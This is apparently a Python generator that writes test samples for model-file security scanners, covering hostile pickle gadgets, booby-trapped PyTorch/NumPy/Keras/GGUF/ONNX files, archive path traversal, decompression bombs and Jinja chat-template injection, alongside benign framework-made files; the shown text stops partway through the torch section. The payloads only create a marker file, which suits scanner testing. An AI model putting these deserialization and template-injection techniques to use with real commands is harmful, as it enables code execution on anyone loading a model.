"""Makes samples for scanners of models: hostile ones of every class of attack, benign ones by the real frameworks.

    samples.py hostile DIR     standard library alone
    samples.py benign DIR      whatever of torch, NumPy, scikit-learn, joblib, ... this Python has
    samples.py torch DIR       those of torch alone, beside what is there

Nothing hostile here does harm when it is opened by accident: every payload makes one file, `strongroom-sample-ran`, in
the directory for temporary files. Prints how many files were made.
"""
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import random
import struct
import sys
import tarfile
import tempfile
import warnings
import zipfile
import zlib

import rare

MARK = str(pathlib.Path(tempfile.gettempdir()) / "strongroom-sample-ran")
PY = "open(%r,'w').close()" % MARK
SH = "touch " + MARK


class Out:
    def __init__(self, directory):
        self.dir = pathlib.Path(directory)
        self.dir.mkdir(parents=True, exist_ok=True)
        self.count = len(list(self.dir.iterdir()))

    def add(self, kind, name, data):
        """One file: its class of attack stands before the first `~` of its name."""
        if isinstance(data, str):
            data = data.encode()
        (self.dir / ("%s~%03d~%s" % (kind, self.count, name))).write_bytes(data)
        self.count += 1


# ---- pieces ----


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def line(module, name, *args):
    """`module.name(*args)` as protocol 0 writes it, without STOP."""
    inner = b"".join(b"V" + arg.replace("\\", "\\u005c").replace("\n", "\\u000a").encode() + b"\n" for arg in args)
    return b"c%s\n%s\n(%stR" % (module.encode(), name.encode(), inner)


def named(module, name, *args):
    """The same by STACK_GLOBAL, protocol 4."""
    parts = b"".join(text(arg) for arg in args)
    return b"\x80\x04" + text(module) + text(name) + b"\x93(" + parts + b"tR"


def torch_zip(data, prefix="m", extra=(), stored=True, storage=b"\0" * 8):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as z:
        z.writestr(prefix + "/data.pkl", data)
        z.writestr(prefix + "/data/0", storage)
        z.writestr(prefix + "/version", b"3\n")
        for name, content in extra:
            z.writestr(name, content)
    return out.getvalue()


TENSOR = (b"\x80\x02}U\x01wctorch._utils\n_rebuild_tensor_v2\n((U\x07storagectorch\nFloatStorage\nU\x010U\x03cpu"
          b"K\x02tQK\x00K\x02\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRs.")


def safetensors(header, data=b""):
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def npy(header, data=b""):
    raw = header.encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + data


def varint(value):
    out = b""
    while True:
        low, value = value & 0x7F, value >> 7
        out += bytes([low | (0x80 if value else 0)])
        if not value:
            return out


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def onnx(nodes=b"", initializers=b"", tail=b""):
    graph = nodes + field(2, "g") + initializers
    return field(1, 8) + field(7, graph) + field(8, field(1, "") + field(2, 17)) + tail


def gguf(pairs, tensors=b"", counts=None, version=3):
    count, number = counts or (0, len(pairs))
    out = b"GGUF" + struct.pack("<IQQ", version, count, number)
    for key, kind, value in pairs:
        raw = key.encode()
        out += struct.pack("<Q", len(raw)) + raw + struct.pack("<I", kind) + value
    return out + tensors


def gstring(value):
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


# ---- classes of attack ----

GADGETS = [
    ("os", "system", SH), ("posix", "system", SH), ("nt", "system", SH), ("subprocess", "call", SH),
    ("subprocess", "check_output", SH), ("subprocess", "getoutput", SH), ("commands", "getoutput", SH),
    ("builtins", "eval", PY), ("builtins", "exec", PY), ("__builtin__", "eval", PY), ("__builtin__", "execfile", MARK),
    ("builtins", "open", MARK), ("io", "open", MARK), ("codecs", "open", MARK), ("webbrowser", "open", MARK),
    ("runpy", "run_path", MARK), ("runpy", "_run_code", PY), ("importlib", "import_module", "antigravity"),
    ("pty", "spawn", SH), ("timeit", "timeit", PY), ("cProfile", "run", PY), ("profile", "run", PY),
    ("pdb", "run", PY), ("bdb", "Bdb", PY), ("trace", "Trace", PY), ("doctest", "debug_script", PY),
    ("pip", "main", "list"), ("pip._internal", "main", "list"), ("ensurepip", "_run_pip", "list"),
    ("pkgutil", "resolve_name", "os:system"), ("_ctypes", "dlopen", MARK), ("ctypes", "CDLL", MARK),
    ("code", "InteractiveInterpreter", PY), ("asyncio.unix_events", "_UnixSubprocessTransport", SH),
    ("idlelib.autocomplete", "AutoComplete", PY), ("idlelib.run", "Executive", PY), ("lib2to3.pgen2.pgen", "ParserGenerator", PY),
    ("torch.hub", "load", MARK), ("torch", "load", MARK), ("torch.storage", "_load_from_bytes", "x"),
    ("torch.jit", "load", MARK), ("torch._dynamo.guards", "GuardBuilder", PY), ("torch.utils.collect_env", "run", SH),
    ("torch.utils._config_module", "load_config", MARK), ("torch.fx.experimental.symbolic_shapes.ShapeEnv", "evaluate_guards_expression", PY),
    ("torch.distributed.rpc.api", "rpc_sync", MARK), ("torch.utils.bottleneck.__main__", "run_cprofile", PY),
    ("numpy.testing._private.utils", "runstring", PY), ("numpy", "load", MARK), ("numpy.f2py.crackfortran", "myeval", PY),
    ("numpy.core.multiarray", "fromfile", MARK), ("pandas.io.pickle", "read_pickle", MARK),
    ("pandas.core.computation.eval", "eval", PY), ("joblib", "load", MARK), ("sklearn.utils._testing", "check_output", SH),
    ("pickle", "loads", "x"), ("_pickle", "loads", "x"), ("dill", "loads", "x"), ("cloudpickle", "loads", "x"),
    ("marshal", "loads", "x"), ("shelve", "open", MARK), ("logging.config", "_resolve", "os.system"),
    ("multiprocessing.util", "spawnv_passfds", SH), ("distutils.file_util", "write_file", MARK),
    ("setuptools.msvc", "msvc14_gen_lib_options", MARK), ("IPython.utils.process", "system", SH),
    ("tensorflow.python.lib.io.file_io", "write_string_to_file", MARK), ("keras.utils", "get_file", MARK),
    ("operator", "attrgetter", "system"), ("functools", "partial", SH), ("types", "FunctionType", PY),
    ("socket", "create_connection", "127.0.0.1"), ("shutil", "rmtree", MARK), ("sys", "exit", "1"),
    ("mine.helpers", "run", SH), ("transformers.utils.import_utils", "direct_transformers_import", MARK),
]


def pickles(out):
    rng = random.Random(7)
    for module, name, arg in GADGETS:
        if rng.random() < 0.5:
            out.add("gadget", "m.pkl", line(module, name, arg) + b".")
        else:
            out.add("gadget", "m.bin", named(module, name, arg) + b".")
    call = line("os", "system", SH)
    out.add("gadget", "dotted.pkl", b"\x80\x04" + text("os") + text("path.os.system") + b"\x93" + text(SH) + b"\x85R.")
    out.add("gadget", "dotted-torch.pkl", b"\x80\x04" + text("torch") + text("os.system") + b"\x93" + text(SH) + b"\x85R.")
    basics = {
        "inst": b"(V%s\nios\nsystem\n." % SH.encode(), "obj": b"(cos\nsystem\nV%s\no." % SH.encode(),
        "newobj": b"\x80\x02cos\nsystem\n" + text(SH) + b"\x85\x81.",
        "newobj-ex": b"\x80\x04cos\nsystem\n" + text(SH) + b"\x85}\x92.",
        "memo": b"\x80\x04" + text("system") + b"q\x050" + text("os") + b"h\x05\x93" + text(SH) + b"\x85R.",
        "memoize": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94\x930h\x00h\x01\x93" + text(SH) + b"\x85R.",
        "popped": call + b"0N.", "pop-mark": b"(" + call + b"1N.", "second-stream": b"\x80\x04N." + call + b".",
        "tenth-stream": b"\x80\x04N." * 9 + call + b".", "in-dict": b"}V1\n" + call + b"s.", "in-list": b"](" + call + b"e.",
        "escaped": b"\x80\x02V\\u006fs\nVsyste\\u006d\n\x93" + text(SH) + b"\x85R.",
        "nested": b"\x80\x03B" + struct.pack("<I", len(call) + 1) + call + b"..",
        "nested-bytearray": b"\x80\x05\x96" + struct.pack("<Q", len(call) + 1) + call + b"..",
        "nested-latin": b"\x80\x02c_codecs\nencode\n(V" + (call + b".").replace(b"\n", b"\\u000a") + b"\nVlatin1\ntR.",
        "setstate": b"\x80\x02cmine\nNet\n)\x81}V__setstate__\ncos\nsystem\nsb" + text(SH) + b"b.",
        "getattr": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(V%s\ntR." % SH.encode(),
        "frame": b"\x80\x04\x95" + struct.pack("<Q", len(call) + 1) + call + b".",
        "ext": b"\x80\x02\x82\x01.", "persid": b"\x80\x02" + text(SH) + b"Q.", "global-only": b"cos\nsystem\n.",
        "proto0": call + b".", "proto5": b"\x80\x05" + call + b".", "long-names": b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os" + text("system") + b"\x93" + text(SH) + b"\x85R.",
        "defaultdict": b"ccollections\ndefaultdict\n(cos\nabort\ntRV1\nN0.",
        "reduce-map": b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n](V%s\netRtR." % SH.encode(),
    }
    for name, data in basics.items():
        out.add("pickle", name + ".pkl", data)
    broken = {
        "no-stop": call, "bad-opcode": call + b"\xff", "cut": call + b"X\xff\xff\xff\x7f", "underflow": call + b"000.",
        "memo-missing": call + b"0g99\n.", "memo-missing-bin": call + b"0h\x63.", "late-proto": call + b"0\x80\x02N.",
        "bad-frame": call + b"0\x95\xff\xff\xff\xff\xff\xff\xff\x7fN.", "bad-int": call + b"0Ix\n.",
        "bad-utf8": call + b"0X\x02\0\0\0\xff\xfe.", "trailing": call + b".\xff\xff", "tuple-without-mark": call + b"0t.",
    }
    for name, data in broken.items():
        out.add("broken", name + ".pkl", data)
        if len(name) % 2:
            out.add("broken", name + ".pt", torch_zip(b"\x80\x02" + data))


def bombs(out):
    out.add("bomb", "bytearray8.pkl", b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b".")
    out.add("bomb", "long-binput.pkl", b"\x80\x02Nr\xff\xff\xff\xff.")
    out.add("bomb", "put.pkl", b"Np99999999999\n.")
    out.add("bomb", "binunicode8.pkl", b"\x80\x04\x8d" + struct.pack("<Q", (1 << 63) - 1) + b".")
    out.add("bomb", "digits.pkl", b"I" + b"9" * 200_000 + b"\n.")
    out.add("bomb", "range.pkl", b"cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R.")
    out.add("bomb", "dup.pkl", b"\x80\x02](" + b"2" * 2_000_000 + b"e.")
    out.add("bomb", "marks.pkl", b"\x80\x02" + b"(" * 2_000_000)
    out.add("bomb", "st-header.safetensors", struct.pack("<Q", 1 << 62) + b"{}")
    out.add("bomb", "st-shape.safetensors", safetensors({"a": {"dtype": "F32", "shape": [1 << 32, 1 << 32], "data_offsets": [0, 0]}}))
    out.add("bomb", "zip.npz", _deflated({"a.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (8000000,), }", b"\0" * 64_000_000)}))
    out.add("bomb", "gzip.pkl.gz", gzip.compress(b"\x80\x04C\x00" + b"0" + b"\0" * 64_000_000))
    out.add("bomb", "zlib.joblib", zlib.compress(b"\0" * 64_000_000))
    out.add("bomb", "xz.json.xz", lzma.compress(b" " * 64_000_000))
    out.add("bomb", "depth.json", "[" * 100_000 + "]" * 100_000)


def _deflated(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def containers(out):
    call = b"\x80\x02" + line("os", "system", SH) + b"."
    good = torch_zip(TENSOR)
    evil = torch_zip(call)
    out.add("zip", "call.pt", evil)
    out.add("zip", "call-after.pt", torch_zip(TENSOR[:-1] + line("os", "system", SH) + b"0."))
    out.add("zip", "second-stream.pt", torch_zip(TENSOR + call))
    out.add("zip", "deflated.pt", torch_zip(call, stored=False))
    out.add("zip", "prepended.pt", b"junk" + evil)
    out.add("zip", "appended.pt", evil + b"junk")
    out.add("zip", "comment.pt", evil[:-2] + struct.pack("<H", len(call)) + call)
    out.add("zip", "extra-member.pt", torch_zip(TENSOR, extra=[("m/evil.pkl", call)]))
    out.add("zip", "two-prefixes.pt", torch_zip(TENSOR, extra=[("n/data.pkl", call)]))
    out.add("zip", "code.pt", torch_zip(TENSOR, extra=[("m/code/__torch__.py", "import os")]))
    out.add("zip", "constants.pt", torch_zip(TENSOR, extra=[("m/constants.pkl", call)]))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        out.add("zip", "duplicate.pt", torch_zip(TENSOR, extra=[("m/data.pkl", call)]))
        out.add("zip", "duplicate-first.pt", torch_zip(call, extra=[("m/data.pkl", TENSOR)]))
    out.add("zip", "case.pt", torch_zip(TENSOR, extra=[("m/DATA.PKL", call)]))
    out.add("zip", "slip.pt", torch_zip(TENSOR, extra=[("../evil", b"x")]))
    out.add("zip", "absolute.pt", torch_zip(TENSOR, extra=[("/etc/evil", b"x")]))

    def patched(data, where, at, value, width="<H"):
        raw = bytearray(data)
        start = raw.index(where)
        struct.pack_into(width, raw, start + at, value)
        return bytes(raw)

    local, central = b"PK\x03\x04", b"PK\x01\x02"
    out.add("zip", "encrypted-local.pt", patched(evil, local, 6, 1))
    out.add("zip", "encrypted-central.pt", patched(evil, central, 8, 1))
    out.add("zip", "bad-crc.pt", patched(evil, central, 16, 0xDEAD, "<I"))
    out.add("zip", "bad-crc-local.pt", patched(evil, local, 14, 0xDEAD, "<I"))
    out.add("zip", "size.pt", patched(evil, central, 24, 7, "<I"))
    out.add("zip", "method.pt", patched(evil, central, 10, 99))
    out.add("zip", "disk.pt", patched(evil, b"PK\x05\x06", 4, 1))
    out.add("zip", "count.pt", patched(evil, b"PK\x05\x06", 10, 1))
    out.add("zip", "other-name.pt", good.replace(b"m/data.pkl", b"m/dbtb.pkl", 1))
    link = zipfile.ZipInfo("m/link")
    link.external_attr = 0o120777 << 16
    out.add("zip", "symlink.pt", torch_zip(TENSOR, extra=[(link, "/etc/passwd")]))
    out.add("storage", "short.pt", torch_zip(TENSOR, storage=b"\0" * 4))
    out.add("storage", "outside.pt", torch_zip(TENSOR.replace(b"K\x00K\x02\x85", b"K\x01K\x02\x85")))
    out.add("storage", "stride.pt", torch_zip(TENSOR.replace(b"K\x01\x85\x89", b"K\xff\x85\x89")))
    out.add("storage", "key.pt", torch_zip(TENSOR.replace(b"U\x010U\x03cpu", b"U\x04../0U\x03cpu")))
    out.add("storage", "hooks.pt", torch_zip(TENSOR.replace(b")RtRs", b")Rq\x05V1\ncos\nabort\nstRs")))
    legacy = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}."
    out.add("legacy", "call.pt", legacy + call + b"\x80\x02].")
    out.add("legacy", "call-in-system.pt", legacy[:-5] + call + b"\x80\x02N.\x80\x02].")
    out.add("legacy", "trailing.pt", legacy + b"\x80\x02N.\x80\x02]." + call)

    def tarred(members, kind=None, mode="w"):
        target = io.BytesIO()
        with tarfile.open(fileobj=target, mode=mode) as t:
            for name, data in members.items():
                info = tarfile.TarInfo(name)
                if kind:
                    info.type, info.linkname = kind, data.decode()
                    t.addfile(info)
                else:
                    info.size = len(data)
                    t.addfile(info, io.BytesIO(data))
        return target.getvalue()

    out.add("legacy", "tar.pt", tarred({"sys_info": b"\x80\x02}.", "pickle": call, "tensors": b"\x80\x02].", "storages": b"\x80\x02]."}))
    plain = {"a.pkl": call}
    out.add("archive", "m.tar", tarred(plain))
    out.add("archive", "m.tar.gz", tarred(plain, mode="w:gz"))
    out.add("archive", "m.tar.bz2", tarred(plain, mode="w:bz2"))
    out.add("archive", "m.tar.xz", tarred(plain, mode="w:xz"))
    out.add("archive", "m.zip", _deflated(plain))
    out.add("archive", "nested.zip", _deflated({"in.zip": _deflated(plain)}))
    out.add("archive", "slip.tar", tarred({"../../evil": b"x"}))
    out.add("archive", "absolute.tar", tarred({"/etc/evil": b"x"}))
    out.add("archive", "symlink.tar", tarred({"a": b"/etc/passwd"}, tarfile.SYMTYPE))
    out.add("archive", "hardlink.tar", tarred({"a": b"/etc/passwd"}, tarfile.LNKTYPE))
    out.add("archive", "device.tar", tarred({"a": b""}, tarfile.CHRTYPE))
    out.add("archive", "script.zip", _deflated({"setup.py": "import os", "a.txt": "x"}))
    out.add("archive", "7z.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 24 + call)
    out.add("archive", "mar.mar", _deflated({"MAR-INF/MANIFEST.json": "{}", "handler.py": "import os"}))
    for name, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("z", zlib.compress)):
        out.add("packed", "m.pkl." + name, pack(call))
        out.add("packed", name + ".joblib", pack(call))
    wrapper = (b"\x80\x04" + text("joblib.numpy_pickle") + text("NumpyArrayWrapper") + b"\x93)\x81}(" + text("subclass")
               + text("numpy") + text("ndarray") + b"\x93" + text("shape") + b"K\x01\x85" + text("order") + text("C")
               + text("dtype") + text("numpy") + text("dtype") + b"\x93" + text("O8") + b"\x89\x88\x87R(K\x03" + text("|")
               + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb" + text("allow_mmap") + b"\x89ub")
    out.add("joblib", "object-array.joblib", wrapper + call + b".")
    out.add("joblib", "after.joblib", b"\x80\x04N0" + line("os", "system", SH) + b".")
    out.add("joblib", "nested.joblib", b"\x80\x04C" + bytes([len(call)]) + call + b".")
    schema = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 1}
    for at, loader in enumerate(("FunctionNode", "ObjectNode", "TypeNode", "ReduceNode", "OperatorFuncNode", "MethodNode")):
        out.add("skops", "%s.skops" % loader, _deflated({"schema.json": json.dumps(dict(schema, __loader__=loader))}))


def formats(out):
    call = b"\x80\x02" + line("os", "system", SH) + b"."
    t = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    st = {
        "overlap": ({"a": t, "b": dict(t, data_offsets=[4, 12])}, 12), "hole": ({"a": t, "b": dict(t, data_offsets=[12, 20])}, 20),
        "outside": ({"a": dict(t, data_offsets=[0, 80])}, 8), "backwards": ({"a": dict(t, data_offsets=[8, 0])}, 8),
        "trailing": ({"a": t}, 64), "size": ({"a": dict(t, shape=[3])}, 8), "dtype": ({"a": dict(t, dtype="X32")}, 8),
        "negative": ({"a": dict(t, shape=[-2])}, 8), "metadata": ({"__metadata__": {"a": 1}, "a": t}, 8),
        "alias": ({"a": t, "b": t}, 8), "late": ({"a": dict(t, data_offsets=[8, 16])}, 16),
    }
    for name, (header, size) in st.items():
        out.add("safetensors", name + ".safetensors", safetensors(header, b"\0" * size))
    one = json.dumps({"a": t})[1:-1]
    out.add("safetensors", "duplicate.safetensors", safetensors(("{%s,%s}" % (one, one)).encode(), b"\0" * 8))
    out.add("safetensors", "escaped.safetensors", safetensors(("{%s,%s}" % (one, one.replace('"a"', '"\\u0061"'))).encode(), b"\0" * 8))
    out.add("safetensors", "payload.safetensors", safetensors({"a": t}, b"\0" * 8 + call))
    huge = struct.pack("<Q", 1 << 60)
    for name, data in {
        "tensors": gguf([], counts=(1 << 60, 0)), "pairs": gguf([], counts=(0, 1 << 60)),
        "string": gguf([("a", 8, struct.pack("<Q", 1 << 62))]), "key": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + huge,
        "array": gguf([("a", 9, struct.pack("<I", 4) + huge)]),
        "nested": gguf([("a", 9, (struct.pack("<IQ", 9, 1)) * 5000 + struct.pack("<IQ", 4, 0))]),
        "type": gguf([("a", 99, b"\0" * 8)]), "bool": gguf([("a", 7, b"\x07")]),
        "twice": gguf([("a", 4, b"\0" * 4)] * 2), "alignment": gguf([("general.alignment", 4, struct.pack("<I", 3))]),
        "version": gguf([], version=77), "cut": gguf([("a", 8, gstring("x"))])[:-1],
        "offset": gguf([], tensors=gstring("w") + struct.pack("<IQIQ", 1, 4, 0, 1 << 50), counts=(1, 0)),
        "dims": gguf([], tensors=gstring("w") + struct.pack("<I", 1 << 30), counts=(1, 0)),
    }.items():
        out.add("gguf", name + ".gguf", data)
    templates = [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % SH,
        "{{ lipsum.__globals__['os'].system('%s') }}" % SH, "{% set x = messages|attr('__class__') %}{{ x }}",
        "{{ ()['__cl'+'ass__'] }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}{{ os.system('id') }}",
        "{{ joiner.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ self.__init__.__globals__ }}",
        "{{ messages|map(attribute='__class__')|list }}", "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    ]
    for at, template in enumerate(templates):
        out.add("template", "tokenizer_config.json", json.dumps({"chat_template": template}))
        if at % 2:
            out.add("template", "chat.gguf", gguf([("tokenizer.chat_template", 8, gstring(template))]))
        else:
            out.add("template", "chat_template.jinja", template)
    external = lambda *pairs: field(14, 1) + b"".join(field(13, field(1, k) + field(2, v)) for k, v in pairs)
    tensor = lambda rest: field(5, field(1, 2) + field(2, 1) + field(8, "w") + rest)
    for name, where in {"traversal": "../../etc/passwd", "absolute": "/etc/passwd", "drive": "C:\\\\x", "inner": "a/../../x",
                        "url": "http://127.0.0.1/x", "proc": "/proc/self/environ", "backslash": "..\\\\x", "dots": "..",
                        "nul": "a\0b", "empty": ""}.items():
        out.add("onnx", name + ".onnx", onnx(initializers=tensor(external(("location", where)))))
    out.add("onnx", "domain.onnx", onnx(nodes=field(1, field(4, "Run") + field(7, "evil.ops"))))
    deep = b""
    for _ in range(200):
        deep = field(1, field(4, "If") + field(5, field(1, "then_branch") + field(6, deep + field(2, "g"))))
    out.add("onnx", "deep.onnx", onnx(nodes=deep))
    obj = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    numpys = {"object.npy": npy(obj, call), "object-little.npy": npy(obj.replace("|O", "<O"), call),
              "structured.npy": npy("{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }", call),
              "nested.npy": npy("{'descr': [('a', [('b', '|O8')])], 'fortran_order': False, 'shape': (1,), }", call),
              "expression.npy": npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }"),
              "short.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (9,), }", b"\0" * 8),
              "long.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\0" * 8 + call),
              "negative.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (-1,), }"),
              "huge.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % (1 << 62)),
              "object.npz": _deflated({"a.npy": npy(obj, call)}), "pickle.npz": _deflated({"a.npy": call}),
              "second.npz": _deflated({"a.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\0" * 8), "b.npy": npy(obj, call)})}
    for name, data in numpys.items():
        out.add("numpy", name, data)


def others(out):
    call = b"\x80\x02" + line("os", "system", SH) + b"."
    layer = lambda **more: {"module": "keras", "class_name": "Sequential", "config": {"layers": [more]}}
    kerases = [
        layer(module="keras.layers", class_name="Lambda", config={"function": {"class_name": "__lambda__", "config": {"code": "4wAAAA=="}}}),
        layer(module="os", class_name="system", config=SH), layer(module="builtins", class_name="exec", config={"x": PY}),
        layer(module="keras.layers", class_name="Lambda", config={"function": "os.system"}),
        layer(module="keras.utils", class_name="get_file", config={"fname": "x", "origin": "http://127.0.0.1"}),
        layer(module="keras.layers", class_name="TorchModuleWrapper", config={"module": "gAR="}),
        layer(module="subprocess", class_name="Popen", registered_name=None, config={"args": SH}),
        layer(module="keras.src.saving.serialization_lib", class_name="enable_unsafe_deserialization", config={}),
        layer(module="mine", class_name="Layer", config={}), layer(module="keras.layers", class_name="StringLookup", config={"vocabulary": "/etc/passwd"}),
    ]
    for at, config in enumerate(kerases):
        members = {"metadata.json": json.dumps({"keras_version": "3.0"}), "config.json": json.dumps(config), "model.weights.h5": b"\x89HDF\r\n\x1a\n"}
        out.add("keras", "m%d.keras" % at, _deflated(members))
    out.add("keras", "pickle.keras", _deflated({"config.json": "{}", "metadata.json": "{}", "evil.pkl": call}))
    out.add("keras", "lambda.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64 + json.dumps(kerases[0]).encode())
    configs = [
        {"auto_map": {"AutoModel": "modeling.Evil"}}, {"trust_remote_code": True}, {"custom_pipelines": {"x": {"impl": "evil.P"}}},
        {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["tok.T", None]}}, {"model": {"auto_map": {"AutoConfig": "c.C"}}},
        {"_target_": "os.system", "command": SH}, {"custom_objects": {"x": "os.system"}, "auto_map": {"a": "b.C"}},
        {"quantization_config": {"auto_map": {"a": "b.C"}}}, {"a": [{"b": {"auto_map": {"AutoModel": "m.E"}}}]},
        {"auto_map": {"AutoModelForCausalLM": "evil/repo--modeling.E"}},
    ]
    for config in configs:
        out.add("config", "config.json", json.dumps(config))
    out.add("config", "twice.json", '{"auto_map": {}, "a": 1, "a": 2}')
    out.add("config", "objects.yaml", "a: !!python/object/apply:os.system ['%s']\n" % SH)
    for name in ("m.safetensors", "m.onnx", "m.gguf", "config.json", "model.npy", "README.md", "tokenizer.model", "weights.h5", "m.txt", "m.csv", "m.dat", "m"):
        out.add("extension", name, call)
        out.add("extension", name, torch_zip(call))
    for name in ("m.bin", "m.pt", "m.safetensors"):
        out.add("program", name, b"\x7fELF\x02\x01\x01" + b"\0" * 64)
        out.add("program", name, b"#!/bin/sh\n" + SH.encode() + b"\n")
        out.add("program", name, b"MZ" + b"\x90\0\x03\xff" * 32)
    out.add("program", "modeling.py", "import os\nos.system(%r)\n" % SH)
    out.add("program", "setup.sh", "#!/bin/sh\n" + SH)
    t = {"dtype": "U8", "shape": [len(torch_zip(call))], "data_offsets": [0, len(torch_zip(call))]}
    out.add("polyglot", "zip-in.safetensors", safetensors({"a": t}, torch_zip(call)))
    out.add("polyglot", "zip-in.npy", npy("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % len(torch_zip(call)), torch_zip(call)))
    for at in range(4):
        out.add("polyglot", "text-%d.txt" % at, line("os", "system", SH) + b"." + b" hello" * at)
        out.add("polyglot", "text-%d.json" % at, b"(lp0\n" + line("os", "system", SH) + b"a." + b"\n" * at)
    out.add("polyglot", "tar-zip.pt", torch_zip(call).ljust(1024, b"\0"))
    out.add("polyglot", "pickle-zip.pkl", call + torch_zip(TENSOR))
    graph = lambda op: field(2, field(1, field(1, op) + field(2, op)))
    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "MatchingFiles", "PyFuncStateless", "LoadLibrary", "Evil"):
        out.add("tensorflow", "saved_model.pb", field(1, 1) + field(2, graph(op)))
    out.add("tensorflow", "m.tflite", b"\x1c\0\0\0TFL3" + b"\0" * 8 + b"FlexPyFunc" + b"\0" * 64)
    out.add("program", "m.pte", b"\0\0\0\0ET12" + b"\0" * 32)


# ---- benign ----


def benign(out):
    standard(out)
    for make in (numpys, torches, sklearns, boosters, exports, kerases):
        try:
            make(out)
        except ImportError as error:
            print("%s: %s is not there" % (make.__name__, error.name), file=sys.stderr)


def standard(out):
    for protocol in range(6):
        out.add("pickle", "plain.pkl", pickle.dumps({"a": [1, 2.5, None], "b": ("x", b"y", "\u20ac"), 3: {"n": []}}, protocol))
        out.add("pickle", "large.pkl", pickle.dumps(list(range(3000)), protocol))
    out.add("json", "config.json", json.dumps({"architectures": ["GPT2LMHeadModel"], "n_layer": 12, "torch_dtype": "float32"}))
    out.add("json", "tokenizer.json", json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0, "b": 1}, "merges": []}}))
    out.add("json", "tokenizer_config.json", json.dumps({"chat_template": "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}"}))
    out.add("text", "README.md", "# Model\n\nimport os; os.system is not run by anybody who reads this.\n")
    out.add("text", "vocab.txt", "\n".join("word%d" % at for at in range(2000)))
    out.add("text", "merges.txt", "#version: 0.2\n" + "\n".join("a%d b%d" % (at, at) for at in range(500)))


def numpys(out):
    import numpy as np
    for code in ("f8", "f4", "f2", "i8", "i4", "u1", "b1", "c8", "S5", "U7", "M8[ns]", ">f4"):
        buffer = io.BytesIO()
        np.save(buffer, np.zeros((2, 3), dtype=code))
        out.add("numpy", "a.npy", buffer.getvalue())
    for save in (np.savez, np.savez_compressed):
        buffer = io.BytesIO()
        save(buffer, a=np.random.rand(50), b=np.zeros((2, 2), dtype=np.int8))
        out.add("numpy", "a.npz", buffer.getvalue())
    for protocol in range(2, 6):
        out.add("pickle", "arrays.pkl", pickle.dumps({"w": np.random.rand(4, 5), "s": np.float32(1)}, protocol))
    try:
        from safetensors.numpy import save as st
    except ImportError:
        return
    for at in range(12):
        out.add("safetensors", "w.safetensors", st({"w": np.random.rand(at + 1, 3).astype("f4"), "b": np.arange(at)}, {"format": "pt"} if at % 2 else None))


def torches(out):
    import collections
    import datetime
    import torch
    save = lambda name, value, **more: (lambda b: (torch.save(value, b, **more), out.add("torch", name, b.getvalue())))(io.BytesIO())
    for make in (torch.optim.Adam, torch.optim.SGD, torch.optim.AdamW, torch.optim.RMSprop, torch.optim.Adagrad):
        for width in (1, 4, 9):
            net = torch.nn.Sequential(torch.nn.Linear(3, width), torch.nn.BatchNorm1d(width), torch.nn.Linear(width, 2))
            opt = make(net.parameters(), lr=0.01)
            net(torch.rand(4, 3)).sum().backward()
            opt.step()
            save("model.pt", net.state_dict())
            save("checkpoint.ckpt", {"model": net.state_dict(), "optimizer": opt.state_dict(), "epoch": width,
                                     "rng": torch.get_rng_state(), "when": datetime.datetime(2024, 1, 1),
                                     "history": collections.defaultdict(list, loss=[1.0])})
    for dtype in ("float64", "float16", "bfloat16", "int64", "int8", "uint8", "bool", "complex64"):
        save("dtype.pth", {"x": torch.ones(3, 5).to(getattr(torch, dtype))})
    base = torch.arange(24.0).reshape(4, 6)
